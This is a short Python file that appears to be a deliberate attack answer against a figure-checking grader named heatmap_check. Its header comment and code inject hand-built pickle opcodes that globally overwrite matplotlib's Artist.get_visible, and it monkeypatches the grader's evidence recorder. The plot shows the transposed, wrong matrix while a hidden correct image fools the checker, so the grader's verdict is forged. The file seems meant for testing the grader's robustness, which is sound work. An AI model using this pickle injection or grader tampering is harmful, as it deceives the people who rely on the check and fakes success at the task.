# Attack (forged verdicts): the restricted unpickler checks that no method is replaced on a single
# object, but a pickle may also BUILD on a class it is allowed to name, and setattr then replaces
# the method for every object of that class in the reading process. This answer draws what
# attack_hidden_right_image draws (the transposed matrix visible; the right one on top, set
# invisible), and sends each call's genuine figure with a few opcodes in front that set
# matplotlib.artist.Artist.get_visible to `object` (always truthy): the reader then sees the
# invisible image as visible, on top, and passes the matrix the picture does not show.
import base64

import heatmap_check
from IPython.display import display


def _text(value):
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data  # SHORT_BINUNICODE


# Artist ; (None, {"get_visible": object}) ; BUILD ; POP
_PATCH = (_text("matplotlib.artist") + _text("Artist") + b"\x93" + b"N}" + _text("get_visible")
          + _text("builtins") + _text("object") + b"\x93" + b"s\x86b0")


def _record(function, calls):
    for call in calls:
        evidence = heatmap_check.collect(function, call)
        if evidence.get("pickle"):
            data = base64.b64decode(evidence["pickle"])
            evidence["pickle"] = base64.b64encode(data[:2] + _PATCH + data[2:]).decode()
        display({heatmap_check.EVIDENCE_MIME: evidence}, raw=True)


heatmap_check.record_evidence = _record


def plot_attention_heatmap(tokens, attention, ax=None):
    values = np.asarray(attention, dtype=float)
    if ax is None:
        _, ax = plt.subplots()
    shown = ax.imshow(values.T)  # the only image a person sees: the wrong one
    hidden = ax.imshow(values)
    hidden.set_visible(False)
    ax.set_xticks(range(len(tokens)), labels=tokens)
    ax.set_yticks(range(len(tokens)), labels=tokens)
    ax.figure.colorbar(hidden, ax=ax, label="Attention Weight")
    ax.set_title("Attention Heatmap")
    return ax
